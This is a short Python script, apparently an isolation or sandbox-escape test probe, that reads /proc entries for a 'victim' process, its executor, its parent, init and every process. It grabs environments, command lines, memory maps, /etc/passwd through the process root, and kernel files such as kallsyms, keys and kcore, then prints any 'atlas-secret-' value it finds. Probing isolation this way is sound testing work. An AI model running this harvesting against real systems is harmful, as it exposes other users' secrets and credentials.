"""Reads what /proc tells about other processes and the machine. Success: the victim's secret is printed."""

import glob
import json
import os

targets = json.loads(input())
pids = [targets["victim"], targets["executor"], os.getppid(), 1, "self", "thread-self"]
files = ("environ", "cmdline", "maps", "status", "mountinfo", "cgroup", "root/etc/passwd", "cwd/.", "stack")
paths = [f"/proc/{pid}/{name}" for pid in pids for name in files]
paths += ["/proc/version", "/proc/kallsyms", "/proc/cmdline", "/proc/net/tcp", "/proc/keys", "/proc/kcore"]
paths += glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/sys/kernel/*")
for path in paths:
    try:
        with open(path, "rb") as file:
            data = file.read(100_000)
    except OSError:
        continue
    print("ESCAPED: read", path)
    at = data.find(b"atlas-secret-")
    if at >= 0:
        print(data[at : at + 64].split(b"\0")[0].decode())
print("done")
